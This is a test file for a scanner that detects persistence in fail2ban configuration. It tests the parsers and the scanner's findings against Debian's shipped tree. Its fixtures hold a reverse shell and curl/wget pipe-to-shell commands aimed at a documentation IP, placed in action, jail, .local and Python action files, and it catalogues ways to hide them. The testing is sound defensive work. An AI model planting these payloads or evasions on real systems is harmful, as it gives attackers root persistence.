/**
 * fail2ban: the commands fail2ban-server runs as root — every action's actionstart/actionban/actionunban… of the
 * jails `enabled` makes active, and each jail's ignorecommand — read as fail2ban's client reads its configuration
 * (configparser with fail2ban's includes, `.local` overrides, `%(name)s` interpolation and `<tag>` substitution).
 * The parsers are checked against what fail2ban 1.0.2 makes of the same text; the family fires on a payload in
 * the action the enabled sshd jail uses (edited in place, overridden by a `.local`, or given as the jail's action
 * option) and on an ignorecommand in /tmp, and stays quiet on Debian's shipped tree, on the actions no enabled jail
 * uses, and on every shipped action even when a jail uses it.
 */
import assert from "node:assert/strict";
import { assertLinear } from "../linear.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import {
  mergeIni,
  parseActionList,
  parseIni,
} from "../../src/scanners/persistence/sources/fail2ban_parse.ts";
import {
  actionCommands,
  Budget,
  getOption,
  MAX_EXPANDED,
  substituteTags,
} from "../../src/scanners/persistence/sources/fail2ban_expand.ts";
import type { IniValue } from "../../src/scanners/persistence/sources/fail2ban_parse.ts";
import { fixtureRoot, makeTree, runOne, type TreeEntry } from "../helpers.ts";
import { exe, fired, withAccounts } from "./persistence_fixtures.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const FETCH = "curl -fsSL http://203.0.113.9/x | sh";
/** Debian 12's shipped /etc/fail2ban (fail2ban 1.0.2-2), as the stock root holds it. */
const STOCK = `${fixtureRoot("stock/debian12")}/etc/fail2ban`;

/** The shipped /etc/fail2ban as tree entries (modes kept), with `changes` (paths under etc/fail2ban) on top. */
function fail2ban(changes: Record<string, TreeEntry> = {}): Record<string, TreeEntry> {
  const out: Record<string, TreeEntry> = {};
  const walk = (dir: string, rel: string) => {
    for (const e of Deno.readDirSync(dir)) {
      if (e.isDirectory) walk(`${dir}/${e.name}`, `${rel}/${e.name}`);
      else {
        const path = `${dir}/${e.name}`;
        out[`${rel}/${e.name}`] = {
          content: Deno.readTextFileSync(path),
          mode: Deno.statSync(path).mode! & 0o777,
        };
      }
    }
  };
  walk(STOCK, "etc/fail2ban");
  for (const [k, v] of Object.entries(changes)) out[`etc/fail2ban/${k}`] = v;
  return withAccounts(out);
}

/** The shipped file `rel` with `from` replaced by `to` (which must be there). */
function edited(rel: string, from: string, to: string): string {
  const text = Deno.readTextFileSync(`${STOCK}/${rel}`);
  assert.ok(text.includes(from), `${rel} holds ${from}`);
  return text.replace(from, to);
}

/** A value written at line 1 of a test file. */
const v = (value: string): IniValue => ({ value, from: [{ file: "/t", line: 1, rank: 0 }] });

// ---------------------------------------------------------------------------------------------------------
// The parsers, against what fail2ban 1.0.2 (Python 3.11's configparser) makes of the same text

Deno.test("fail2ban ini: `=` or `:`, lower-cased keys, indented continuations, comments as configparser reads them", () => {
  const ini = parseIni(
    [
      "# comment",
      "[Definition]",
      "ActionBan = first",
      "    second ; an inline comment starts at a blank and a semicolon",
      "    # a comment line inside the value is left out",
      "",
      "\tthird;not-a-comment # nor this",
      "actionunban: colon",
      "[Init]",
      "x = 1\r",
      "y = 2\rz = 3",
      "[DEFAULT]",
      "d = default",
      "no delimiter here",
      "[weird] trailing",
      "k = v",
    ].join("\n"),
    "/t.conf",
    0,
  );
  const plain = (m: Map<string, IniValue>) => Object.fromEntries([...m].map(([k, x]) => [k, x.value]));
  assert.deepEqual(Object.fromEntries([...ini.sections].map(([k, s]) => [k, plain(s)])), {
    Definition: { actionban: "first\nsecond\n\nthird;not-a-comment # nor this", actionunban: "colon" },
    Init: { x: "1", y: "2", z: "3" },
    weird: { k: "v" },
  });
  assert.deepEqual(plain(ini.defaults), { d: "default" });
  assert.equal(ini.bad, 1);
  assert.deepEqual(ini.sections.get("Definition")!.get("actionban")!.from, [{
    file: "/t.conf",
    line: 3,
    rank: 0,
  }]);
});

Deno.test("fail2ban ini: later files override, the replaced value stays as known/, [Init?family=inet6] is conditional", () => {
  const merged = mergeIni([
    parseIni("[Init]\nx = 1\ny = 2\n[Init?family=inet6]\nx = 6\n", "/a.conf", 0),
    parseIni("[Init]\nx = 10\n", "/a.local", 1),
  ]);
  const init = merged.sections.get("Init")!;
  assert.deepEqual([...init].map(([k, x]) => `${k}=${x.value}`), ["x=10", "y=2", "x?family=inet6=6"]);
  assert.equal(merged.sections.get("KNOWN/Init")!.get("x")!.value, "1");
});

Deno.test("fail2ban interpolation: %(name)s, %%, %(__name__)s, %(section/key)s, %(known/key)s; the unknown kept", () => {
  const conf = mergeIni([
    parseIni(
      "[DEFAULT]\nbase = /usr\n[sec]\nx = sec-x\n[jail]\na = %(base)s/bin %% 50% %(__name__)s %(sec/x)s %(missing)s\n",
      "/j.conf",
      0,
    ),
    parseIni("[jail]\na = %(known/a)s + more\n", "/j.local", 1),
  ]);
  const budget = new Budget(1 << 20);
  // fail2ban rejects the lone `%` and the missing key; both are kept as written.
  assert.equal(
    getOption(conf, "jail", "a", undefined, budget)?.text,
    "/usr/bin % 50% jail sec-x %(missing)s + more",
  );
  assert.deepEqual(getOption(conf, "jail", "a", undefined, budget)?.from.map((o) => `${o.file}:${o.line}`), [
    "/j.local:2",
    "/j.conf:6",
    "/j.conf:2",
    "/j.conf:4",
  ]);
  assert.equal(getOption(conf, "nosuch", "base", undefined, budget), undefined);
  // vars (a jail's options for its action) come before the section's own keys.
  assert.equal(getOption(conf, "jail", "base", new Map([["base", v("/opt")]]), budget)?.text, "/opt");
});

Deno.test("fail2ban interpolation: a value naming itself stops at configparser's depth; an exponential chain at the budget", () => {
  const self = mergeIni([parseIni("[s]\na = x%(a)s\n", "/s", 0)]);
  // configparser gives up at depth 10 (fail2ban then rejects the value); the expansion stops there too.
  assert.equal(getOption(self, "s", "a", undefined, new Budget(1 << 20))?.text, `${"x".repeat(11)}%(a)s`);
  // Eight references a level: ten levels are 8^10 copies of the leaf.
  const chain = [
    "[s]",
    ...Array.from({ length: 30 }, (_, i) => `a${i} = ${`%(a${i + 1})s`.repeat(8)}`),
    "a30 = xyz",
  ];
  const conf = mergeIni([parseIni(chain.join("\n"), "/c", 0)]);
  const small = new Budget(100_000);
  assert.equal(
    getOption(conf, "s", "a0", undefined, small)?.text,
    "%(a1)s".repeat(8),
    "given raw once the budget is spent",
  );
  assert.ok(small.exhausted);
  const big = new Budget(1 << 26);
  assert.equal(
    getOption(conf, "s", "a20", undefined, big)!.text,
    "xyz".repeat(MAX_EXPANDED / 3 + 1).slice(0, MAX_EXPANDED),
  );
  assert.ok(!big.exhausted);
});

Deno.test("fail2ban tags: nested <ipt_<type>/…>, a tag inside its own value and unknown tags stay, exponential ones cost the budget", () => {
  const tags = new Map([
    ["type", "multiport"],
    ["ipt_multiport/_chain_rule", "-m multiport --dports <port>"],
    ["port", "22"],
    ["a", "<b>"],
    ["b", "<a>"],
    ...Array.from({ length: 40 }, (_, i) => [`t${i}`, `<t${i + 1}><t${i + 1}>`] as [string, string]),
  ]);
  const lookup = (t: string) => tags.has(t) ? { text: tags.get(t)!, from: [] } : undefined;
  const run = (text: string, budget = new Budget(1 << 20)) =>
    substituteTags({ text, from: [] }, "self", lookup, budget).text;
  assert.equal(run("iptables <ipt_<type>/_chain_rule> -s <ip>"), "iptables -m multiport --dports 22 -s <ip>");
  assert.equal(run("<self> <a>"), "<self> <a>");
  const budget = new Budget(100_000);
  assert.equal(run("<t0>", budget), "<t0>", "given back unexpanded");
  assert.ok(budget.exhausted);
});

Deno.test("fail2ban action list: names, quoted options holding `,` and `]`, option groups, new lines; unclosed is read", () => {
  const list = (text: string) => parseActionList(text).map((a) => [a.name, Object.fromEntries(a.options)]);
  assert.deepEqual(
    list(
      'iptables-multiport[port="ssh", protocol=tcp, chain="<known/chain>"]\n  sendmail-whois[dest="a, b]", name=x][sender=\'me\']  smtp.py',
    ),
    [
      ["iptables-multiport", { port: "ssh", protocol: "tcp", chain: "<known/chain>" }],
      ["sendmail-whois", { dest: "a, b]", name: "x", sender: "me" }],
      ["smtp.py", {}],
    ],
  );
  assert.deepEqual(list('x[actionban="unclosed'), [["x", { actionban: '"unclosed' }]]);
  assert.deepEqual(list("[bare]  y [ a = 1 ]"), [["y", { a: "1" }]]);
});

Deno.test("fail2ban commands: the jail's option, then [Init], then [Definition]; a condition's variant when it differs", () => {
  const conf = mergeIni([
    parseIni(
      [
        "[Definition]",
        "actionstart = <cmd> start <name>",
        "actionban = <cmd> ban <ip>",
        "actionunban = <cmd> unban <ip>",
        "actioncheck = <cmd> check",
        "[Init]",
        "cmd = fw",
        "name = default",
        "actionunban = init unban",
        "[Init?family=inet6]",
        "cmd = fw6",
      ].join("\n"),
      "/a.conf",
      0,
    ),
  ]);
  const options = new Map([["name", v("sshd")], ["actionban", v("echo <name> <ip>")]]);
  const got = actionCommands(conf, options, new Map(), new Budget(1 << 20)).map((c) =>
    `${c.hook}: ${c.text}`
  );
  assert.deepEqual(got, [
    "actionstart: fw start sshd",
    "actioncheck: fw check",
    "actionban: echo sshd <ip>",
    "actionunban: init unban",
    "actionstart?family=inet6: fw6 start sshd",
    "actioncheck?family=inet6: fw6 check",
  ]);
});

Deno.test("fail2ban parsers: malformed and hostile input never throws and takes linear time", () => {
  const shapes: [string, (n: number) => string][] = [
    ["blank runs before a word", (n) => `[s]\nk = ${" ".repeat(n)}x`],
    ["semicolons after words", (n) => `[s]\nk = ${"a;".repeat(n / 2)}`],
    ["deep continuation lines", (n) => `[s]\nk = v\n${" x\n".repeat(n / 3)}`],
    ["unclosed headers and references", (n) => `[s]\nk = ${"[%(<".repeat(n / 4)}`],
    ["references to a missing key", (n) => `[s]\nk = ${"%(m)s".repeat(n / 5)}`],
    ["unclosed tags", (n) => `[s]\nk = ${"<a".repeat(n / 2)}`],
    ["tags of tags", (n) => `[s]\nk = ${"<k>".repeat(n / 3)}`],
    ["action options never closed", (n) => `x[${'a=",'.repeat(n / 4)}`],
    ["single quotes never closed", (n) => `x[${"a='".repeat(n / 3)}`],
    ["delimiters only", (n) => "=:".repeat(n / 2)],
    ["NUL and invalid text", (n) => "\0\uFFFD\r".repeat(n / 3)],
  ];
  const parseAll = (text: string) => {
    const conf = mergeIni([parseIni(text, "/f", 0)]);
    const budget = new Budget(16 << 20);
    const k = getOption(conf, "s", "k", undefined, budget);
    if (k) substituteTags(k, "k", (t) => getOption(conf, "s", t, undefined, budget), budget);
    actionCommands(conf, new Map([["actionban", v(text)]]), new Map(), budget);
    return parseActionList(text).length;
  };
  for (
    const bad of ["", "[", "[]", "=", "[s]\n=x", "[s]\n k", "%(", "<>", "x[", "x[]", "x[=]", "x[a", "\r\r\n"]
  ) {
    assert.equal(typeof parseAll(bad), "number", JSON.stringify(bad));
  }
  assertLinear(parseAll, shapes);
});

// ---------------------------------------------------------------------------------------------------------
// The family on a root: Debian's shipped tree, with the sshd jail its jail.d/defaults-debian.conf enables

Deno.test("persistence: a reverse shell appended to actionban of the action the enabled sshd jail uses fires", async () => {
  const ban = "actionban = <iptables> -I f2b-<name> 1 -s <ip> -j <blocktype>\n";
  using root = makeTree(
    fail2ban({
      "action.d/iptables.conf": edited("action.d/iptables.conf", ban, `${ban}            ${REVERSE}\n`),
    }),
  );
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/fail2ban/action.d/iptables.conf:48",
  ]);
});

Deno.test("persistence: an action.d .local override, a jail's action option and an ignorecommand in /tmp fire where written", async () => {
  using root = makeTree(fail2ban({
    // A tag every command of iptables-multiport uses, replaced in a .local fail2ban reads after iptables.conf.
    "action.d/iptables.local": `[Init]\niptables = iptables <lockingopt>; ${FETCH};\n`,
    // The jail's own option replaces the action's actionban (key case does not matter: configparser's vars).
    "jail.local":
      `[sshd]\naction = iptables-multiport[ActionBan="${REVERSE}"]\nignorecommand = /tmp/.wl <ip>\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual([...new Set(fired(r.findings))], [
    "critical persistence.command.reverse_shell /etc/fail2ban/jail.local:2",
    "high persistence.command.download_exec /etc/fail2ban/action.d/iptables.local:2",
    "high persistence.command.untrusted_path /etc/fail2ban/jail.local:3",
  ]);
});

Deno.test("persistence: fail2ban evasions — IPv6-only commands, NAME.d files, known/, a jail's port, includes, Python actions", async () => {
  using root = makeTree({
    ...fail2ban({
      // Only IPv6 bans run it; tab-indented continuation and a colon for `=`.
      "action.d/iptables-multiport.local":
        `[Init?family=inet6]\nActionStart: <iptables> -N x\n\t${REVERSE}\n`,
      // The shipped commands kept (known/), one line added, from a file of the action's .d directory.
      "action.d/iptables-multiport.d/zz.conf":
        `[Definition]\nactionunban = %(known/actionunban)s<br>${FETCH}\n`,
      // A jail value spliced into actionstart's `--dports <port>` (and an include pulled from /tmp).
      "jail.d/custom.local":
        `[INCLUDES]\nafter = /tmp/f2b-extra.conf\n[sshd]\nport = 22; wget -qO- http://203.0.113.9/y | bash\n`,
      // A second enabled jail with Python actions: one in /tmp, and the shipped smtp.py with a reverse shell.
      "jail.d/web.conf":
        "[web]\nenabled = true\nfilter = sshd\naction = /tmp/.act.py\n  smtp.py[host=localhost]\n",
      "action.d/smtp.py": `import os\nos.system("${REVERSE}")\n`,
    }),
    "tmp/f2b-extra.conf": "[web]\nignorecommand = true\n",
    "tmp/.act.py": "pass\n",
  });
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual([...new Set(fired(r.findings))], [
    "critical persistence.command.reverse_shell /etc/fail2ban/action.d/iptables-multiport.local:2",
    "critical persistence.command.reverse_shell /etc/fail2ban/jail.d/web.conf:4",
    "high persistence.command.download_exec /etc/fail2ban/action.d/iptables-multiport.d/zz.conf:2",
    "high persistence.command.download_exec /etc/fail2ban/jail.d/custom.local:4",
    "high persistence.command.untrusted_path /etc/fail2ban/jail.d/web.conf:4",
    "high persistence.command.untrusted_path /tmp/f2b-extra.conf",
  ]);
});

Deno.test("persistence: the same edit in an action no enabled jail uses, or commented out, is inert", async () => {
  using root = makeTree(fail2ban({
    "action.d/nftables.local": `[Definition]\nactionban = ${REVERSE}\n`,
    // configparser ends the value at ` ;`: fail2ban runs `true`.
    "action.d/iptables-multiport.local": `[Definition]\nactionban = true ; ${REVERSE}\n`,
    "jail.local": `[apache-auth]\nenabled = false\nignorecommand = ${FETCH}\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  const points = r.findings.filter((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.kind === "fail2ban_command"
  );
  const nft = points.find((f) => f.metadata.path === "/etc/fail2ban/action.d/nftables.local");
  assert.equal(nft?.metadata.inert, true);
  assert.deepEqual(nft?.metadata.entries, [REVERSE]);
  assert.equal(points.find((f) => f.metadata.path === "/etc/fail2ban/jail.local")?.metadata.inert, true);
});

Deno.test("persistence: Debian's shipped /etc/fail2ban with sshd enabled is quiet; only iptables-multiport is active", async () => {
  using root = makeTree(fail2ban());
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const points = r.findings.filter((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.kind === "fail2ban_command"
  );
  const active = points.filter((f) => f.metadata.inert !== true);
  assert.deepEqual(active.map((f) => [f.metadata.path, f.metadata.jails, f.metadata.actions]), [
    ["/etc/fail2ban/action.d/iptables.conf", ["sshd"], ["iptables-multiport"]],
  ]);
  assert.ok((active[0].metadata.entries as string[]).includes(
    "iptables -w -I f2b-sshd 1 -s <ip> -j REJECT --reject-with icmp-port-unreachable",
  ));
  // The curl, sendmail and whois actions, and apache-fakegooglebot's ignorecommand, are recorded inert.
  const inert = points.filter((f) => f.metadata.inert === true).map((f) => f.metadata.path);
  for (
    const p of ["action.d/abuseipdb.conf", "action.d/sendmail-whois.conf", "action.d/smtp.py", "jail.conf"]
  ) {
    assert.ok(inert.includes(`/etc/fail2ban/${p}`), p);
  }
});

Deno.test("persistence: every shipped fail2ban action, used by an enabled jail, fires nothing", async () => {
  const actions = [...Deno.readDirSync(`${STOCK}/action.d`)].map((e) => e.name).filter((n) =>
    n.endsWith(".conf")
  )
    .map((n) => n.slice(0, -5)).sort();
  const jails = actions.map((a) =>
    `[j-${a}]\nenabled = true\nfilter = sshd\naction = ${a}[port="ssh", protocol="tcp", chain="<known/chain>"]\n` +
    `  %(mta)s-whois-lines[sender="%(sender)s", dest="%(destemail)s", logpath="%(logpath)s", chain="%(chain)s"]\n`
  );
  using root = makeTree(fail2ban({ "jail.local": jails.join("\n") }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  const active = r.findings.filter((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.kind === "fail2ban_command" &&
    f.metadata.inert !== true
  );
  const entries = active.flatMap((f) => f.metadata.entries as string[]).join("\n");
  for (const word of ["curl", "/usr/sbin/sendmail", "whois <ip>"]) assert.ok(entries.includes(word), word);
});

Deno.test("persistence: a hostile fail2ban configuration (self-references, exponential values, include loops) ends", async () => {
  const chain = Array.from(
    { length: 40 },
    (_, i) => `t${i} = <t${i + 1}><t${i + 1}>\np${i} = %(p${i + 1})s%(p${i + 1})s`,
  );
  using root = makeTree(fail2ban({
    "jail.local": "[INCLUDES]\nbefore = jail.local\nafter = loop.conf\n[sshd]\nenabled = %(enabled)s\n" +
      "action = iptables-multiport hostile\n",
    "loop.conf": "[INCLUDES]\nbefore = jail.local\nafter = loop.conf\n",
    "action.d/hostile.conf":
      `[Definition]\nactionban = <t0> %(p0)s <actionban>\nactionstart = %(actionstart)s\n` +
      `${chain.join("\n")}\nt40 = x\np40 = y\n`,
    "action.d/loop.d/a.conf": "[INCLUDES]\nbefore = ../loop.conf\n[Definition]\nactionban = <actionban>\n",
    "action.d/loop.conf": "[INCLUDES]\nafter = loop.d/a.conf\n",
  }));
  const t0 = performance.now();
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.ok(performance.now() - t0 < 30_000);
  assert.deepEqual(fired(r.findings), []);
});

Deno.test("persistence: an executable planted as fail2ban's ignorecommand helper is judged by its content", async () => {
  using root = makeTree(fail2ban({
    "jail.local": "[sshd]\nignorecommand = /etc/fail2ban/filter.d/ignorecommands/check <ip>\n",
    "filter.d/ignorecommands/check": exe(`#!/bin/sh\n${REVERSE}\n`),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/fail2ban/jail.local:2",
  ]);
});
